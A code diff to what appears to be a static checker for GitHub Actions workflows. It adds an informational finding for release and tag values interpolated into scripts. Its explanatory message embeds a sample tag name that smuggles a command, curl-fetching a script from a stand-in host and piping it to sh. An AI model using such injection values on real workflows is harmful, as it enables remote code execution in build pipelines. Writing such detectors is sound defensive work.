@@ -12,7 +12,11 @@ from __future__ import annotations
 from collections.abc import Iterator
 
 from quotecheck.diagnostics import Severity
-from quotecheck.hosts.github_actions import INPUT_CONTEXTS, UNTRUSTED_CONTEXTS
+from quotecheck.hosts.github_actions import (
+    INPUT_CONTEXTS,
+    RELEASE_CONTEXTS,
+    UNTRUSTED_CONTEXTS,
+)
 from quotecheck.rules.api import CheckContext, Finding, Rule, Template
 from quotecheck.rules.triggers import Trigger
 
@@ -55,6 +59,15 @@ def check(ctx: CheckContext) -> Iterator[Finding]:
             # (whoever runs or calls the workflow can change it anyway: information)
             whose = "an input's text (whoever runs or calls the workflow chooses it)"
             example = "an input with a quote or a `;` breaks the script or runs code."
+            severity = "info"
+        elif RELEASE_CONTEXTS.search(value.written):
+            # (whoever can push a tag can point it at a commit whose workflow runs anything:
+            # the value gives them no more than they have, so information, as for an input)
+            whose = ("a release's text (whoever can push tags and publish a release chooses "
+                     "it, and can change the workflow the release runs as well)")
+            example = ("`v1\";curl${IFS}-s${IFS}x.example/p|sh;#` is a valid tag name (`git "
+                       "check-ref-format` refuses blanks, not quotes or `;`), and notes with a "
+                       "quote break the script.")
             severity = "info"
         else:
             continue
